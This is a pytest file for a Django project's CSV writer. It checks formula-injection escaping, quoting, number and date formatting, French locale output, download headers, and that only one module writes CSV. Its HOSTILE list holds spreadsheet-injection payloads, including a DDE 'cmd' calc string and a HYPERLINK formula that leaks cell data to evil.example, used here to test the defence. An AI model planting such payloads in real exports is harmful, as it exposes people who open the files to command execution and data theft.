"""The one writer of sheets: what it makes of hostile cells, of figures, of languages."""

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy

from dinamis import sheets

ROOT = Path(__file__).parents[2]
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "＝1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(sheets.MARK), newline="")))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_text_that_would_be_computed_gets_an_apostrophe(words):
    assert sheets.cell(words) == f"'{words}"
    [_header, row] = read("".join(sheets.lines([["a", "b"], [words, "next"]])))
    assert row == [f"'{words}", "next"]


@pytest.mark.parametrize(
    "words", ["", " ", "1 = 1", "a@b.example", "Côte d’Ivoire", "'=1+1", "(−1)"]
)
def test_other_texts_stay_as_they_are(words):
    assert sheets.cell(words) == words


def test_a_cell_cannot_begin_another_cell_or_line():
    words = 'a","=1+1"\r\n=2+2;=3+3'
    assert read("".join(sheets.lines([["a"], [words]]))) == [["a"], [words]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12, "-12"),
        (Decimal("-12.50"), "-12.50"),
        (-0.5, "-0.5"),
        (True, "True"),
        (None, ""),
        (date(2026, 3, 1), "2026-03-01"),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00+00:00"),
    ],
)
def test_figures_and_days_are_no_texts(value, written):
    assert read("".join(sheets.lines([["a"], [value]]))) == [["a"], [written]]


def test_a_document_has_its_mark_once_commas_and_whole_lines():
    document = "".join(sheets.lines([["é", "b"], [1, "x"], [2, "y"]]))
    assert document == "\ufeffé,b\r\n1,x\r\n2,y\r\n"
    assert "".join(sheets.lines([])) == ""


def test_a_french_reader_gets_what_a_french_excel_opens_in_columns():
    rows = [["é", "b"], [Decimal("1234.50"), True], [-0.5, "x;y"], [date(2026, 3, 1), "=1"]]
    document = "".join(sheets.lines(rows, language="fr"))
    assert document == '\ufeffé;b\r\n1234,50;True\r\n-0,5;"x;y"\r\n2026-03-01;\'=1\r\n'


def test_a_document_sent_later_keeps_the_readers_language():
    def rows():
        yield [gettext_lazy("Name")]
        yield [translation.get_language()]

    with translation.override("fr"):
        sent = sheets.lines(rows())
    with translation.override("en"):
        assert read("".join(sent)) == [["Nom"], ["fr"]]


def test_an_answer_is_a_file_that_no_cache_keeps():
    answer = sheets.answer("a.csv", [["a"]])
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert answer["Cache-Control"] == "private, no-store"
    assert answer.getvalue().startswith("\ufeff".encode())


def test_nobody_else_writes_csv():
    writers = [
        str(path.relative_to(ROOT))
        for room in ("accounts", "catalogue", "dinamis", "orders")
        for path in (ROOT / room).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|text/csv", path.read_text())
    ]
    assert writers == ["dinamis/sheets.py"]
